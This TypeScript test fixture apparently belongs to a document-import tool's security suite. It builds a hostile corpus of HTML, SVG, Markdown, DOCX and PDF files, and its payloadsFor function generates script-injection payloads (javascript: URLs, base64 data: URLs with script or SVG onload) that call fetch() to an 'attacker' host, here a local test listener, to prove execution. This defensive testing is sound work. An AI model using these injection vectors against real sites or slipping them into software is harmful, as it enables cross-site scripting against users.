// The vocabulary of the hostile corpus (issue 9): what every document says that a reader will highlight, and
// payloads that cannot fail silently. Any script that runs sets a global sentinel, logs and alerts the
// sentinel word and asks the attacker's host for a URL naming its case; any resource that is fetched is
// fetched from that host. The tests point the host at a listener of their own, so a request from the
// browser or from the importing process (jsdom, mammoth, pdf.js) is seen wherever it comes from.

/** Highlighted in every document; it must survive import verbatim and take a highlight on exactly its words. */
export const BENIGN_SENTENCE = 'The harbour inquiry reported on 4 May 2022 that the cranes stood idle.';
/** Logged and alerted by every payload that runs. */
export const SENTINEL = 'PWNED';
/** The global a running payload sets (window.__pwned in a page, globalThis.__pwned in Node). */
export const SENTINEL_GLOBAL = '__pwned';

export type HostileFormat = 'html' | 'svg' | 'markdown' | 'mhtml' | 'docx' | 'pdf';

export type HostileCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'base'
  | 'meta-refresh'
  | 'iframe'
  | 'object'
  | 'css'
  | 'srcset'
  | 'form'
  | 'link-prefetch'
  | 'electron'
  | 'mxss'
  | 'svg'
  | 'metadata'
  | 'unicode'
  | 'markdown'
  | 'mime'
  | 'docx-external'
  | 'pdf-action'
  | 'font-matrix';

export interface HostileDocument {
  /** A token unique to the document (`hx042`), in its text: it finds the document in the library. */
  id: string;
  fileName: string;
  format: HostileFormat;
  category: HostileCategory;
  description: string;
  bytes: Uint8Array;
  /**
   * The document shows markup as words (a Word file that says "<script>", an <xmp> element): the canonical
   * text then legitimately contains payload characters, which stay text.
   */
  payloadAsText?: boolean;
  /** The payload sits among the benign sentence's own words (or draws them, in a PDF's font). */
  inSentence?: boolean;
}

export interface HostileOptions {
  /** Where payloads send requests and load resources from: an origin such as http://127.0.0.1:4567. */
  attacker: string;
}

/** One document's payloads, each naming the case and the vector so that a failure says which one fired. */
export interface Payloads {
  id: string;
  /** A URL on the attacker's host. */
  url(vector: string): string;
  /** The attacker's host name (and port), for hosts written without a scheme (smb://, \\host\share). */
  host: string;
  /**
   * JavaScript without quotes, spaces or angle brackets, so it fits any attribute, URL or string: sets the
   * sentinel (here and in the top window), logs, requests and alerts. Each step is guarded so that Node,
   * where alert and top do not exist, still makes the request.
   */
  js(vector: string): string;
  /** A `javascript:` URL that runs js(). */
  jsUrl(vector: string): string;
  /** A data: URL of an HTML page whose script runs js(). */
  dataHtml(vector: string): string;
  /** A data: URL of an SVG image whose onload runs js(). */
  dataSvg(vector: string): string;
}

export function payloadsFor(id: string, options: HostileOptions): Payloads {
  const origin = options.attacker.replace(/\/+$/, '');
  const url = (vector: string) => `${origin}/${id}/${vector}`;
  const js = (vector: string) =>
    [
      `globalThis.${SENTINEL_GLOBAL}=1`,
      `try{top.${SENTINEL_GLOBAL}=1}catch{}`,
      `try{console.log(\`${SENTINEL}:${id}:${vector}\`)}catch{}`,
      `try{fetch(\`${url(vector)}\`)}catch{}`,
      `try{document.createElement(\`img\`).src=\`${url(`${vector}-img`)}\`}catch{}`,
      `try{alert(\`${SENTINEL}:${id}:${vector}\`)}catch{}`,
    ].join(';');
  return {
    id,
    url,
    host: new URL(origin).host,
    js,
    jsUrl: (vector) => `javascript:${js(vector)}`,
    dataHtml: (vector) => `data:text/html;base64,${base64(`<script>${js(vector)}</script>`)}`,
    dataSvg: (vector) =>
      `data:image/svg+xml;base64,${base64(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(vector)}"><script>${js(`${vector}-script`)}</script></svg>`,
      )}`,
  };
}

export function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

/** Text around the benign sentence: enough prose that an article extractor takes the page for an article. */
export const INTRO =
  'Port workers in the northern district described a summer of delays, missed shipments and unpaid ' +
  'overtime, and the municipal council asked for an independent review of how the terminal was run.';
export const CLOSING =
  'The council is expected to debate the findings next month; the operator said it would cooperate with ' +
  'the review and publish its own figures on container traffic.';

export function caseTitle(id: string, description: string): string {
  return `Case ${id}: ${description}`;
}

/** Escapes text for HTML element content and quoted attribute values. */
export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}
